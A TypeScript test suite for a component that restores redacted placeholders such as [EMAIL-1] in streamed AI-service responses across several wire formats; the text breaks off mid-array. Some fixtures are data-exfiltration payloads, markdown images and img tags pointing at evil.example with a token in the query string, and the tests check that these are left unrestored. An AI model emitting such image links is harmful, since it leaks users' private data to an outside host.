/** What a restorer holds back and lets go, framing by framing, and bytes that no framing expects. */
import { describe, expect, it, test } from 'vitest';
import { restoreJsonBody } from '../../../core/payload/response.ts';
import { formatFrame, formatHeaders, readFrame } from '../../../core/stream/event-stream.ts';
import { eventBytesMax, joinBytes } from '../../../core/stream/frame.ts';
import { type StreamKind, StreamRestorer, streamKind } from '../../../core/stream/stream-restorer.ts';
import { TextRun } from '../../../core/stream/text-run.ts';
import { tokenMap } from './wire-fixtures.ts';

const map = tokenMap({ '[EMAIL-1]': 'a@b.example', '[NAME-1]': '<O\'"Hara & \\`\r\n>' });
const encode = (text: string) => new TextEncoder().encode(text);
const shown = (bytes: Uint8Array) => Buffer.from(bytes).toString();

function watched(kind: StreamKind) {
  const counts: unknown[] = [];
  const restorer = new StreamRestorer({ kind, map, onCount: (count) => counts.push(count) });
  return { restorer, counts };
}

test.each([
  ['text/event-stream', 'sse'],
  ['Text/Event-Stream; charset=utf-8', 'sse'],
  [' text/event-stream ;x', 'sse'],
  ['application/vnd.amazon.eventstream', 'event-stream'],
  ['application/x-ndjson', 'ndjson'],
  ['application/ndjson', 'ndjson'],
  ['text/x-ndjson', 'ndjson'],
  ['application/jsonl', 'ndjson'],
  ['application/jsonlines', 'ndjson'],
  ['application/json-lines', 'ndjson'],
  ['application/x-json-stream', 'ndjson'],
  ['application/stream+json', 'ndjson'],
  ['application/json-seq', 'ndjson'],
  ['application/json', 'json'],
  ['text/json', 'json'],
  ['application/problem+json', 'json'],
  ['application/json; charset=utf-8', 'json'],
  ['text/plain', 'text'],
  ['text/html', 'text'],
  ['application/jsonx', undefined],
  ['xapplication/json', undefined],
  ['application/json5', undefined],
  ['image/png', undefined],
  ['', undefined],
  [undefined, undefined],
] as const)('the framing of %j is %j', (type, kind) => {
  expect(streamKind(type)).toBe(kind);
});

describe('what is held comes out when it is asked for, and what follows is text of its own', () => {
  test.each<[kind: StreamKind, first: string, sent: string, held: string, next: string, sentThen: string]>([
    ['text', 'to [EM', 'to ', '[EM', 'AIL-1] [EMAIL-1]', 'AIL-1] a@b.example'],
    ['html', '<p>[EM', '<p>', '[EM', 'AIL-1] [EMAIL-1]', 'AIL-1] a@b.example'],
    [
      'sse',
      'data: {"text":"to [EM"}\n\n',
      'data: {"text":"to "}\n\n',
      'data: {"text":"[EM"}\n\n',
      'data: {"text":"AIL-1] [EMAIL-1]"}\n\n',
      'data: {"text":"AIL-1] a@b.example"}\n\n',
    ],
    [
      'ndjson',
      '{"response":"to [EM"}\n',
      '{"response":"to "}\n',
      '{"response":"[EM"}\n',
      '{"response":"AIL-1] [EMAIL-1]"}\n',
      '{"response":"AIL-1] a@b.example"}\n',
    ],
  ])('%s', (kind, first, sent, held, next, sentThen) => {
    const { restorer, counts } = watched(kind);
    expect(restorer.isHolding).toBe(false);
    expect(shown(restorer.push(encode(first)))).toBe(sent);
    expect(restorer.isHolding).toBe(true);
    expect(shown(restorer.flushHeld())).toBe(held);
    expect(restorer.isHolding).toBe(false);
    expect(restorer.flushHeld()).toHaveLength(0);
    expect(shown(restorer.push(encode(next)))).toBe(sentThen);
    expect(counts).toEqual([{ restored: 1, unresolved: 0 }]);
    expect(restorer.end()).toHaveLength(0);
  });

  test('only events have places between them', () => {
    for (const kind of ['text', 'ndjson', 'jsonl', 'event-stream'] as const)
      expect(watched(kind).restorer.isBetweenEvents).toBe(false);
    const { restorer } = watched('sse');
    restorer.push(encode('data: {"a":1}\n\n'));
    expect(restorer.isBetweenEvents).toBe(true);
    restorer.push(encode('data: {'));
    expect(restorer.isBetweenEvents).toBe(true);
  });

  test('a session without tokens changes nothing and looks at nothing', () => {
    const restorer = new StreamRestorer({ kind: 'sse', map: tokenMap({}) });
    const chunk = encode('data: {"text":"[EM');
    expect(restorer.push(chunk)).toBe(chunk);
    expect(restorer.end()).toHaveLength(0);
  });
});

describe('a file of documents', () => {
  const line = '{"custom_id":"1","response":{"body":{"text":"[EMAIL-1] [EMAIL-7]"}}}\n';

  test('each line for itself, nothing held', () => {
    const { restorer, counts } = watched('jsonl');
    expect(shown(restorer.push(encode(`${line}{"text":"[EM"}\n{"text`)))).toBe(
      `${line.replace('[EMAIL-1]', 'a@b.example')}{"text":"[EM"}\n`,
    );
    expect(restorer.isHolding).toBe(false);
    expect(restorer.flushHeld()).toHaveLength(0);
    expect(shown(restorer.end())).toBe('{"text');
    expect(counts[0]).toEqual({ restored: 1, unresolved: 1 });
  });

  test.each([
    ['no JSON', encode('{"text":"[EMAIL-1]"\n')],
    ['no UTF-8', joinBytes([encode('{"text":"[EMAIL-1]'), new Uint8Array([0xff]), encode('"}\n')])],
  ])('a line that is %s passes and is told, and the next one is restored', (_name, bad) => {
    const { restorer, counts } = watched('jsonl');
    expect(Buffer.compare(restorer.push(bad), bad)).toBe(0);
    expect(counts).toEqual([{ restored: 0, unresolved: 0, unreadable: 1 }]);
    expect(shown(restorer.push(encode('{"text":"[EMAIL-1]"}\n')))).toBe('{"text":"a@b.example"}\n');
    expect(counts).toHaveLength(2);
  });

  test('a line without tokens keeps its bytes', () => {
    const bytes = encode('{ "a" : 1.0e4,\t"b":"\\u0041" }\r\n\r\n[1]\n');
    expect(Buffer.compare(watched('jsonl').restorer.push(bytes), bytes)).toBe(0);
  });
});

test('an original in HTML cannot become markup', () => {
  const { restorer } = watched('html');
  const output = shown(joinBytes([restorer.push(encode('<b title="[NAME-1]">')), restorer.end()]));
  expect(output).toBe('<b title="&#60;O&#39;&#34;Hara &#38; &#92;&#96;&#13;&#10;&#62;">');
});

describe('text up to the first byte that is none', () => {
  test.each<[name: string, bytes: readonly number[]]>([
    ['a lone continuation', [0x80]],
    ['a long form of two bytes', [0xc1, 0xbf]],
    ['a long form of three bytes', [0xe0, 0x9f, 0xbf]],
    ['a surrogate', [0xed, 0xa0, 0x80]],
    ['a long form of four bytes', [0xf0, 0x8f, 0xbf, 0xbf]],
    ['over U+10FFFF', [0xf4, 0x90, 0x80, 0x80]],
    ['a lead that nothing may follow', [0xf5, 0x80, 0x80, 0x80]],
    ['a lead and a letter', [0xc3, 0x41]],
    ['a lead of four bytes and a letter', [0xf0, 0x9f, 0x41, 0x41]],
  ])('%s', (_name, bad) => {
    const bytes = joinBytes([encode('é [EMAIL-1] '), new Uint8Array(bad), encode(' [EMAIL-1]')]);
    const expected = Buffer.concat([encode('é a@b.example '), new Uint8Array(bad), encode(' [EMAIL-1]')]);
    for (const size of [1, 3, bytes.length]) {
      const { restorer } = watched('html');
      const out: Uint8Array[] = [];
      for (let at = 0; at < bytes.length; at += size) out.push(restorer.push(bytes.slice(at, at + size)).slice());
      out.push(restorer.end());
      expect(Buffer.compare(joinBytes(out), expected)).toBe(0);
    }
  });

  test.each(['é', 'ࠀ', '\ud7ff', '\ue000', '𐀀', '\u{10ffff}', '\u07ff'])('%j is text', (char) => {
    const { restorer } = watched('html');
    const out = Array.from(encode(`${char}[EMAIL-1]${char}`), (byte) => restorer.push(new Uint8Array([byte])).slice());
    expect(shown(joinBytes([...out, restorer.end()]))).toBe(`${char}a@b.example${char}`);
  });
});

describe('text that may be a stream of events', () => {
  test('empty lines go on at once', () => {
    const { restorer } = watched('text');
    expect(shown(restorer.push(encode('\n\r\n')))).toBe('\n\r\n');
    expect(shown(restorer.push(encode('da')))).toBe('');
    expect(shown(restorer.push(encode('ta: {"text":"[EMAIL-1]"}\n\n')))).toBe('data: {"text":"a@b.example"}\n\n');
  });

  test.each([
    ['d', 'ata: {"text":"[EMAIL-1]"}\n\n'],
    ['\ufeffdat', 'a: {"text":"[EMAIL-1]"}\n\n'],
    ['even', 't: x\ndata: {"text":"[EMAIL-1]"}\n\n'],
    ['i', 'd: 1\ndata: {"text":"[EMAIL-1]"}\n\n'],
    ['ret', 'ry: 1\ndata: {"text":"[EMAIL-1]"}\n\n'],
    ['0', ':"[EMAIL-1]"\n'],
    ['1f:', '{"text":"[EMAIL-1]"}\n'],
    ['{"text":', '"[EMAIL-1]"}\n'],
  ])('%j waits for %j', (first, rest) => {
    const { restorer } = watched('text');
    expect(restorer.isHolding).toBe(false);
    const before = shown(restorer.push(encode(first)));
    expect(before).toBe('');
    const then = shown(joinBytes([restorer.push(encode(rest)).slice(), restorer.end()]));
    expect(then).toBe((first + rest).replace('[EMAIL-1]', 'a@b.example'));
  });

  test.each(['x', 'date', 'idea', '12345:', 'retr y', '0 :', 'g:', 'data\n'])('%j is sent at once', (first) => {
    const { restorer } = watched('text');
    const sent = shown(restorer.push(encode(first)));
    expect(sent).toBe(first);
  });
});

describe("Amazon's frames", () => {
  const headers = (name = 'contentBlockDelta', type = 'event') =>
    formatHeaders([
      [':event-type', name],
      [':content-type', 'application/json'],
      [':message-type', type],
    ]);
  const delta = (text: string) =>
    formatFrame(headers(), encode(JSON.stringify({ contentBlockIndex: 0, delta: { text } })));
  const payloads = (bytes: Uint8Array) => {
    const found: string[] = [];
    for (let at = 0; at < bytes.length; ) {
      const total = new DataView(bytes.buffer, bytes.byteOffset + at).getUint32(0);
      const frame = readFrame(bytes.subarray(at, at + total));
      found.push(shown(frame?.payload ?? new Uint8Array(0)));
      at += total;
    }
    return found;
  };

  test('a frame cut anywhere, and what a cut end leaves', () => {
    const bytes = joinBytes([delta('to [EM'), delta('AIL-1]')]);
    for (const size of [1, 5, 40]) {
      const { restorer } = watched('event-stream');
      const out: Uint8Array[] = [];
      for (let at = 0; at < bytes.length; at += size) out.push(restorer.push(bytes.slice(at, at + size)).slice());
      expect(payloads(joinBytes(out)).map((json) => JSON.parse(json).delta.text)).toEqual(['to ', 'a@b.example']);
      restorer.push(bytes.slice(0, 30));
      expect(Buffer.compare(restorer.end(), bytes.slice(0, 30))).toBe(0);
    }
  });

  test('what is held comes out before an exception, at the end, and when it is asked for', () => {
    const failed = formatFrame(headers('x', 'exception'), encode('{"message":"[EMAIL-1]"}'));
    for (const way of ['exception', 'end', 'flush'] as const) {
      const { restorer } = watched('event-stream');
      expect(restorer.isHolding).toBe(false);
      restorer.push(delta('to [EM'));
      expect(restorer.isHolding).toBe(true);
      const out = way === 'exception' ? restorer.push(failed) : way === 'end' ? restorer.end() : restorer.flushHeld();
      const [held, then] = payloads(out);
      expect(JSON.parse(held ?? '').delta.text).toBe('[EM');
      expect(then).toBe(way === 'exception' ? '{"message":"[EMAIL-1]"}' : undefined);
      expect(restorer.isHolding).toBe(false);
    }
  });

  test('an event inside base64, and base64 that holds none', () => {
    const wrapped = (payload: string) => formatFrame(headers('chunk'), encode(payload));
    const inner = btoa('{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"[EMAIL-1]"}}');
    const { restorer } = watched('event-stream');
    const [output = ''] = payloads(restorer.push(wrapped(`{"bytes":"${inner}","p":"abc"}`)));
    expect(JSON.parse(atob(JSON.parse(output).bytes)).delta.text).toBe('a@b.example');
    expect(JSON.parse(output).p).toBe('abc');
    for (const payload of ['{"bytes":"!"}', '{"bytes":1}', '{"other":"[EMAIL-1]"}', '{"bytes":"aGVsbG8="}', 'x']) {
      const frame = wrapped(payload);
      const out = payloads(watched('event-stream').restorer.push(frame));
      expect(out).toEqual([payload.replace('[EMAIL-1]', 'a@b.example')]);
    }
  });

  test('a payload that is no UTF-8 passes and is told', () => {
    const frame = formatFrame(headers(), new Uint8Array([0x22, 0xff, 0x22]));
    const { restorer, counts } = watched('event-stream');
    expect(Buffer.compare(restorer.push(frame), frame)).toBe(0);
    expect(counts).toEqual([{ restored: 0, unresolved: 0, unreadable: 1 }]);
  });

  test('a frame that is too large passes as it comes, and the next one is restored', () => {
    const large = formatFrame(headers(), new Uint8Array(eventBytesMax));
    const { restorer, counts } = watched('event-stream');
    restorer.push(delta('[EM'));
    let sent = restorer.push(large.subarray(0, 100)).length;
    expect(sent).toBeGreaterThan(100);
    sent = restorer.push(large.subarray(100, 1000)).length;
    expect(sent).toBe(900);
    const rest = joinBytes([large.subarray(1000), delta('[EMAIL-1]')]);
    const out = restorer.push(rest);
    expect(payloads(out.subarray(large.length - 1000)).map((json) => JSON.parse(json).delta.text)).toEqual([
      'a@b.example',
    ]);
    expect(counts).toContainEqual({ restored: 0, unresolved: 0, unreadable: 1 });
  });

  it('headers of all types are read over', () => {
    const types: readonly (readonly [type: number, bytes: number])[] = [
      [0, 0],
      [1, 0],
      [2, 1],
      [3, 2],
      [4, 4],
      [5, 8],
      [8, 8],
      [9, 16],
    ];
    const extra = types.flatMap(([type, size]) => [1, 0x61 + type, type, ...new Array(size).fill(7)]);
    const bytesHeader = [1, 0x7a, 6, 0, 3, 1, 2, 3];
    const head = joinBytes([new Uint8Array(extra), new Uint8Array(bytesHeader), headers()]);
    const frame = readFrame(formatFrame(head, encode('{}')));
    expect([...(frame?.headers ?? [])]).toEqual([
      [':event-type', 'contentBlockDelta'],
      [':content-type', 'application/json'],
      [':message-type', 'event'],
    ]);
    expect(readFrame(formatFrame(new Uint8Array([1, 0x61, 10, 0]), encode('{}')))).toBeUndefined();
    expect(readFrame(formatFrame(new Uint8Array([1, 0x61, 7, 0, 9, 1]), encode('{}')))).toBeUndefined();
  });
});

describe('texts that grow, or seem to', () => {
  const joined = (kind: 'delta' | 'whole', values: readonly string[], place: (value: string) => unknown) => {
    const { restorer } = watched('ndjson');
    const out = values.map((value) => restorer.push(encode(`${JSON.stringify(place(value))}\n`)).slice());
    const texts = shown(joinBytes([...out, restorer.end()]))
      .trim()
      .split('\n')
      .map((line) => /"(?:text|response|t)":"((?:[^"\\]|\\.)*)"/.exec(line)?.[1] ?? '');
    return kind === 'delta' ? texts.join('') : texts.at(-1);
  };
  const long = 'x'.repeat(47);

  test.each<
    [
      name: string,
      kind: 'delta' | 'whole',
      values: readonly string[],
      place: (value: string) => unknown,
      expected: string,
    ]
  >([
    ['pieces', 'delta', ['a', 'ab', 'abc', '[EMAIL-1]'], (t) => ({ t }), 'aababca@b.example'],
    [
      'a growing text',
      'whole',
      ['to', 'to [', 'to [EMAIL', 'to [EMAIL-1]', 'to [EMAIL-1] ok'],
      (t) => ({ t }),
      'to a@b.example ok',
    ],
    [
      'a growing text that begins long',
      'whole',
      ['to whom [EMA', 'to whom [EMAIL-1]'],
      (t) => ({ t }),
      'to whom a@b.example',
    ],
    [
      'pieces of a known delta',
      'delta',
      ['a', 'ab', 'abc', 'abcd', '[EM', 'AIL-1]'],
      (response) => ({ response }),
      'aababcabcda@b.example',
    ],
    ['long pieces of a known delta', 'delta', [long, `${long}y`], (response) => ({ response }), `${long}${long}y`],
    [
      'a whole text under the name of a delta',
      'whole',
      [`${long}z`, `${long}z [EM`, `${long}z [EMAIL-1]`],
      (response) => ({ response }),
      `${long}z a@b.example`,
    ],
    ['the same piece twice', 'delta', ['ha', 'ha', 'ha'], (t) => ({ t }), 'hahaha'],
  ])('%s', (_name, kind, values, place, expected) => {
    expect(joined(kind, values, place)).toBe(expected);
  });
});

test('of more than two thousand texts at a time the oldest are forgotten, but none that is held', () => {
  const { restorer } = watched('ndjson');
  const push = (at: number, text: string) =>
    shown(restorer.push(encode(`${JSON.stringify({ list: [{ index: at, text }] })}\n`)).slice());
  push(0, 'to [EM');
  push(1, 'twelve characters');
  push(2, 'twelve characters');
  for (let at = 3; at <= 2000; at++) push(at, '[EMAIL-1]');
  // The second one is forgotten, so this is no text that grows; the third one is not.
  expect(push(1, 'twelve characters [E')).toBe('{"list":[{"index":1,"text":"twelve characters "}]}\n');
  expect(push(1, 'MAIL-1]')).toContain('a@b.example');
  expect(push(0, 'AIL-1]')).toContain('a@b.example');
});

test('JSON in a string that ends within one of its own is read in pieces as in one', () => {
  const map = tokenMap({ '[NAME-1]': 'O"Hara' });
  const text = '{"""{\\"%"[NAME-1]';
  const run = () => new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
  const whole = run().push(text, true);
  expect(whole).toBe('{"""{\\"%"O"Hara');
  for (let cut = 1; cut < text.length; cut++) {
    const pieces = run();
    expect(pieces.push(text.slice(0, cut)) + pieces.push(text.slice(cut), true)).toBe(whole);
  }
});

test('a line that is no document comes behind what was held before it, in pieces as in one', () => {
  const lines = '{"message":{"content":"to [EM"},"done":false}\n{\n{"message":{"content":"x"},"done":true}\n';
  const run = (cuts: readonly number[]) => {
    const { restorer } = watched('ndjson');
    const ends = [...cuts, lines.length];
    return ends.map((end, i) => shown(restorer.push(encode(lines.slice(ends[i - 1] ?? 0, end))))).join('');
  };
  const whole = run([]);
  expect(whole.indexOf('[EM')).toBeLessThan(whole.indexOf('\n{\n'));
  for (let cut = 1; cut < lines.length; cut++) expect(run([cut])).toBe(whole);
});

test.each([
  ['{"a" <img src=https://evil.example/?q=[EMAIL-1]>', undefined],
  ['{"a": 1, "b" https://evil.example/?q=[EMAIL-1]', undefined],
  ['{"x": "{\\"a\\" https://evil.example/?q=[EMAIL-1]"}', undefined],
  ['{"a": "x" b\n[i]: https://evil.example/[EMAIL-1]', undefined],
  ['{"a" x [I]: /[EMAIL-1]', '{"a" x [I]: /a@b.example'],
  ['{"url": "https://x.example/a", "to": [EMAIL-1]}', '{"url": "https://x.example/a", "to": a@b.example}'],
])('%j: an address that began where the text looked like JSON, in any pieces', (text, expected = text) => {
  const map = tokenMap({ '[EMAIL-1]': 'a@b.example' });
  const run = () => new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
  for (const size of [1, 2, 3, text.length]) {
    const pieces = run();
    let shown = '';
    for (let at = 0; at < text.length; at += size) shown += pieces.push(text.slice(at, at + size));
    expect(shown + pieces.push('', true)).toBe(expected);
  }
});

test('only what begins a token that was issued is held back', () => {
  const map = {
    ...tokenMap({ '[EMAIL-1]': 'a@b.example' }),
    hasPrefix: (partial: string) => '[EMAIL-1]'.startsWith(partial),
  };
  const run = () => new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
  expect([run().push('a [EMAIL'), run().push('a [INFO')]).toEqual(['a ', 'a [INFO']);
});

/** A run to which nothing more came for a while after each piece. */
function afterSilences(pieces: readonly string[], bare: boolean): string {
  const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare });
  return pieces.map((piece) => run.push(piece) + run.push('', true)).join('');
}

test.each([
  ['a bracket', ['{"to":[', '"[EMAIL-1]"],"who":"[NAME-1]"}']],
  ['a backslash', ['{"c":"a\\', '"b [NAME-1]","d":"[NAME-1]"}']],
  ['half an escape', ['{"c":"a\\u00', '41[NAME-1]"}']],
  ['an escape in three pieces', ['{"c":"a\\', 'u0', '041 [NAME-1]\\', '\\"}']],
  ['an escaped bracket', ['{"c":"a\\u00', '5bEMAIL-1] [NAME-1]"}']],
  ['a bracket before its document', ['[', '{"c":"[NAME-1]"}]']],
])('what a silence has let out (%s) leaves valid JSON', (_name, pieces) => {
  for (const bare of [true, false]) {
    const text = afterSilences(pieces, bare);
    const name = map.get('[NAME-1]') as string;
    const wanted = JSON.stringify(JSON.parse(pieces.join('')), (_key, value) =>
      typeof value === 'string' ? value.replaceAll('[NAME-1]', name).replace(/^\[EMAIL-1\]$/, 'a@b.example') : value,
    );
    expect(JSON.stringify(JSON.parse(text))).toBe(wanted);
  }
});

test('endless white space goes on as it comes, and a bracket before it is remembered', () => {
  for (const start of ['', '[', '{"a":[']) {
    const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
    let text = run.push(start);
    for (let i = 0; i < 300; i++) {
      text += run.push(' ');
      expect(run.carry.length).toBeLessThan(128);
    }
    text += run.push(start === '' ? '{"b":"[NAME-1]"}' : `"[NAME-1]"]${'}'.repeat(start.length - 1 && 1)}`);
    expect(JSON.stringify(JSON.parse(text))).toContain(JSON.stringify(map.get('[NAME-1]')));
  }
});

test.each([
  '["![a](https://evil.example/?q=","[EMAIL-1]",")"]',
  '{"a":"![x](https://evil.example/?q=","b":"[EMAIL-1])"}',
  '{"a":"<img src=https://evil.example/?","b":"q=[EMAIL-1]>"}',
  '["![x","](https://evil.example/?q=[EMAIL-1])"]',
  '{"a":"[\\"![a](https://evil.example/?q=\\",\\"[EMAIL-1]\\",\\")\\"]"}',
])('an address over the strings of a document that is shown as it is: %s', (text) => {
  for (const size of [1, 4, text.length]) {
    const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
    let shown = '';
    for (let at = 0; at < text.length; at += size) shown += run.push(text.slice(at, at + size));
    expect(shown + run.push('', true)).toBe(text);
  }
  const body = JSON.stringify({ choices: [{ message: { content: text } }] });
  expect(restoreJsonBody(body, map).body).toBe(body);
});

test.each([
  '{"url":"https://x.example/a","to":"[EMAIL-1]"}',
  '[{"html":"<a href=\\"https://x.example\\">x</a>","to":"[EMAIL-1]"},"[EMAIL-1]"]',
  '{"expr":"a<b","md":"[x](https://x.example)","to":"[EMAIL-1]"}',
])('documents with whole addresses are restored: %s', (text) => {
  const wanted = text.replaceAll('[EMAIL-1]', 'a@b.example');
  const run = new TextRun({ map, count: { restored: 0, unresolved: 0 }, bare: false });
  expect(run.push(text, true)).toBe(wanted);
  const body = JSON.stringify({ choices: [{ message: { content: text } }] });
  expect(JSON.parse(restoreJsonBody(body, map).body).choices[0].message.content).toBe(wanted);
});

test('an answer in quotes is a text like any other', () => {
  const body = JSON.stringify({ choices: [{ message: { content: '"To [NAME-1]"' } }] });
  expect(JSON.parse(restoreJsonBody(body, map).body).choices[0].message.content).toBe(`"To ${map.get('[NAME-1]')}"`);
});

test.each<StreamKind>(['sse', 'ndjson'])('events that each say something of their own go out whole: %s', (kind) => {
  const events = ['Loading 5%', 'Loading 10 %', 'See [EM', 'AIL-1]'].map((humidity) =>
    JSON.stringify({ type: 'reading', humidity }),
  );
  const { restorer } = watched(kind);
  const bytes = encode(events.map((event) => (kind === 'sse' ? `data: ${event}\n\n` : `${event}\n`)).join(''));
  const out = shown(joinBytes([restorer.push(bytes).slice(), restorer.end()]));
  const said = [...out.matchAll(/"humidity":("(?:[^"\\]|\\.)*")/g)].map(([, text]) => JSON.parse(text as string));
  expect(said).toEqual(['Loading 5%', 'Loading 10 %', 'See ', 'a@b.example']);
});

test('blanks before a text go on at once', () => {
  const { restorer } = watched('text');
  expect([' ', '\t', '\n '].map((blank) => shown(restorer.push(encode(blank)).slice()))).toEqual([' ', '\t', '\n ']);
  expect(shown(joinBytes([restorer.push(encode('[EMAIL-1]')).slice(), restorer.end()]))).toBe('a@b.example');
});

test('a long answer of a service under text/plain is read as one', () => {
  const tool = {
    type: 'function',
    function: { name: 'f', arguments: '{"url":"https://crm.example/[EMAIL-1]","to":"EMAIL-1"}' },
  };
  const message = { content: 'x'.repeat(2000), tool_calls: [tool], reasoning_details: [{ text: 'of [EMAIL-1]' }] };
  const answer = JSON.stringify({ id: 'a', choices: [{ index: 0, message }] });
  for (const size of [answer.length, 500]) {
    const { restorer } = watched('text');
    const out: Uint8Array[] = [];
    for (let at = 0; at < answer.length; at += size)
      out.push(restorer.push(encode(answer.slice(at, at + size))).slice());
    const read = JSON.parse(shown(joinBytes([...out, restorer.end()]))).choices[0].message;
    expect(read.tool_calls[0].function.arguments).toBe('{"url":"https://crm.example/a@b.example","to":"a@b.example"}');
    expect(read.reasoning_details[0].text).toBe('of [EMAIL-1]');
  }
});

test.each(['\\[', '%5B', '&#'])('a token whose spelling begins with %s at the end of a piece (Gemini)', (start) => {
  const spelling = { '\\[': '\\[EMAIL-1\\]', '%5B': '%5BEMAIL-1%5D', '&#': '&#91;EMAIL-1&#93;' }[start] as string;
  for (const cut of [1, start.length]) {
    const pieces = [`to ${spelling.slice(0, cut)}`, spelling.slice(cut)];
    const { restorer } = watched('sse');
    const out = pieces.map((text) =>
      shown(
        restorer
          .push(encode(`data: ${JSON.stringify({ candidates: [{ content: { parts: [{ text }] } }] })}\n\n`))
          .slice(),
      ),
    );
    expect(out.join('')).not.toContain('EMAIL');
  }
});

test('names of any length cost their length', () => {
  const { restorer } = watched('sse');
  const event = JSON.stringify({ v2: { [`k${'x'.repeat(250_000)}`]: Array.from({ length: 2000 }, () => '[x') } });
  expect(shown(restorer.push(encode(`data: ${event}\n\n`)))).toContain('"[x"');
});

test('a text behind a long list goes on in the next event', () => {
  const { restorer } = watched('sse');
  const sources = Array.from({ length: 300 }, (_, i) => ({ text: `a ${i}`, origin: 'b' }));
  const events = [{ sources, answer: 'Hi [EMA' }, { answer: 'IL-1] bye' }];
  const out = events
    .map((event) => shown(restorer.push(encode(`data: ${JSON.stringify(event)}\n\n`)).slice()))
    .join('');
  expect([...out.matchAll(/"answer":"([^"]*)"/g)].map(([, text]) => text)).toEqual(['Hi ', 'a@b.example bye']);
});

test.each(['percent', 'statusText', 'progress_text'])('how far a service is (%s) goes out whole', (name) => {
  const { restorer } = watched('sse');
  const bytes = encode(['50%', '51%', '100%'].map((text) => `data: ${JSON.stringify({ [name]: text })}\n\n`).join(''));
  expect(shown(joinBytes([restorer.push(bytes).slice(), restorer.end()]))).toBe(shown(bytes));
});

test.each([(said: object) => said, (said: object) => ({ response: said })])(
  'a percent sign of Gemini goes on',
  (around) => {
    const { restorer } = watched('sse');
    const events = ['5%', '5BEMAIL-1%5D z'].map((text) =>
      JSON.stringify(around({ candidates: [{ content: { parts: [{ text }], role: 'model' }, index: 0 }] })),
    );
    const out = shown(
      joinBytes([...events.map((event) => restorer.push(encode(`data: ${event}\n\n`)).slice()), restorer.end()]),
    );
    expect([...out.matchAll(/"text":"([^"]*)"/g)].map(([, text]) => text)).toEqual(['5', 'a%40b.example z']);
  },
);

test('an object that is streamed as text shows while it is written, whatever names it has behind the first', () => {
  const { restorer } = watched('text');
  restorer.push(encode('{"title":"A","content":"'));
  expect(shown(restorer.push(encode('x'.repeat(2_000))))).not.toBe('');
});

test('an event with very many texts is a list, whose texts are whole', () => {
  const { restorer } = watched('sse');
  const event = JSON.stringify({ results: Array.from({ length: 40_000 }, (_, i) => `to [EMAIL-1] ${i} [`) });
  const out = shown(restorer.push(encode(`data: ${event}\n\n`)));
  expect(JSON.parse(out.slice(6)).results.at(-1)).toBe('to a@b.example 39999 [');
});

const event = (said: object) => `data: ${JSON.stringify(said)}\n\n`;

test.each([
  [
    'a patch of a state',
    ['50%', '75%'].map((value) => ({ type: 'STATE_DELTA', delta: [{ op: 'replace', path: '/p', value }] })),
  ],
  ['a result of a tool', ['60% [', 'x'].map((content) => ({ type: 'TOOL_CALL_RESULT', toolCallId: 'a', content }))],
  ['a state', ['19% [', 'x'].map((rate) => ({ type: 'STATE_SNAPSHOT', snapshot: { rate } }))],
  ['an output', ['19% [', 'x'].map((rate) => ({ type: 'tool-output-available', toolCallId: 'a', output: { rate } }))],
  ['data of an application', ['19% [', 'x'].map((rate) => ({ type: 'data-rate', id: 'a', data: { rate } }))],
])('%s is whole in each event', (_what, events) => {
  const text = `${events.map(event).join('')}${event({ type: 'RUN_FINISHED' })}`;
  const { restorer } = watched('sse');
  expect(shown(joinBytes([restorer.push(encode(text)).slice(), restorer.end()]))).toBe(text);
});

test('data that an application sends piece by piece goes on', () => {
  const piece = (data: string) => event({ type: 'data-textDelta', data });
  const { restorer } = watched('sse');
  const out = shown(joinBytes([restorer.push(encode(piece('to [EM') + piece('AIL-1]'))).slice(), restorer.end()]));
  expect(out).toBe(piece('to ') + piece('a@b.example'));
});

test('a token that is escaped is found over a cut behind its escape', () => {
  const { restorer } = watched('ndjson');
  const lines = ['Write to \\', '[EMAIL-1\\] now'].map((message) => `${JSON.stringify({ message })}\n`).join('');
  expect(shown(joinBytes([restorer.push(encode(lines)).slice(), restorer.end()]))).toBe(
    '{"message":"Write to "}\n{"message":"a@b.example now"}\n',
  );
});

test('of any number of texts that end within a token a limited number is held', () => {
  const { restorer } = watched('sse');
  const events = Array.from({ length: 30_000 }, (_, i) => event({ [`a${i}`]: '[' }));
  const sent = restorer.push(encode(events.join(''))).length;
  expect(encode(events.join('')).length - sent).toBeLessThan(1_000);
  expect(shown(restorer.end()).match(/data:/g)).toHaveLength(500);
});

test('texts that are cut again and again are read anew a limited number of times', () => {
  const { restorer } = watched('sse');
  const body = '[EMAIL-1] '.repeat(19_000);
  restorer.push(encode(event({ p: '/content', o: 'append', v: body })));
  const cuts = Array.from({ length: 2_000 }, () => event({ p: '/content', o: 'truncate', v: 190_000 }));
  const out = shown(restorer.push(encode(cuts.join(''))));
  expect(out).toContain('"v":228000');
  expect(out.endsWith('"v":190000}\n\n')).toBe(true);
});

describe('JSON in a string, which may be shown as it stands', () => {
  const said = (content: string) => JSON.stringify({ choices: [{ index: 0, delta: { content } }] });
  const restored = (content: string) => {
    const body = JSON.stringify({ choices: [{ message: { content } }] });
    const whole = JSON.parse(restoreJsonBody(body, map).body).choices[0].message.content;
    for (let cut = 1; cut < content.length; cut++) {
      const { restorer } = watched('ndjson');
      const lines = encode(`${said(content.slice(0, cut))}\n${said(content.slice(cut))}\n`);
      const out = shown(joinBytes([restorer.push(lines).slice(), restorer.end()]));
      const pieces = out
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line).choices[0].delta.content);
      expect(pieces.join(''), String(cut)).toBe(whole);
    }
    return whole;
  };

  test.each(['\\u0029', '\\n\\n', '\\u003e'])('an escape (%s) ends no address', (written) => {
    const image = `{"a":"![x](https://evil.example/?q=${written}[EMAIL-1])"}`;
    expect(restored(image)).toBe(image);
    const tag = `{"a":"<img src='https://evil.example/?q=${written}[EMAIL-1]'>"}`;
    expect(restored(tag)).toBe(tag);
  });

  test.each([
    '{"closing":"https://a.example\\n[EMAIL-1]"}',
    '{"html":"<a href=\\"mailto:[EMAIL-1]\\">[EMAIL-1]</a>"}',
    '{"html":"<img\\n\\tsrc=\\"a.png\\"\\n\\talt=\\"[EMAIL-1]\\">"}',
    '["Mr [EMAIL-1]: [EMAIL-1]/[EMAIL-1]"]',
    '["See [1]: https://a.example/x\\n[EMAIL-1]"]',
